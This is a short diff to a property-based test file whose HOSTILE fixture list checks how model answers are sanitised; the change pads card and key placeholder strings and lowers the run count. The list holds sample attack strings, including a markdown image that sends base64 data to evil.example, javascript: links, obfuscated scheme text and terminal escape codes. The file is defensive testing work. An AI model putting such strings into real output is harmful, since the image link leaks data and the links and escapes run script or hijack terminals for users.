@@ -62,8 +62,9 @@ const HOSTILE = [
   '![x](https://evil.example/?d=c2VjcmV0)',
   '[x](javascript:alert(1))',
   'javajavascript:script:',
-  `Card ${CARD}.`,
-  `Key ${KEY}!`,
+  // Blanks on both sides: beside a further digit it would be no card number.
+  ` Card ${CARD}. `,
+  ` Key ${KEY}! `,
   '\x1b]0;title\x07\x1b[31m',
   '\u202egnirts\u202c',
   '&lt;b&gt; "quoted" \'single\'',
@@ -144,7 +145,7 @@ describe('whatever a model returns', () => {
     }
     await fc.assert(
       fc.asyncProperty(fc.array(answer, { minLength: 1, maxLength: 2 }), fc.integer({ min: 1, max: 40 }), run),
-      { numRuns: 120 },
+      { numRuns: 80 },
     )
     expect(done).toBeGreaterThan(10)
     expect(partials).toBeGreaterThan(100)
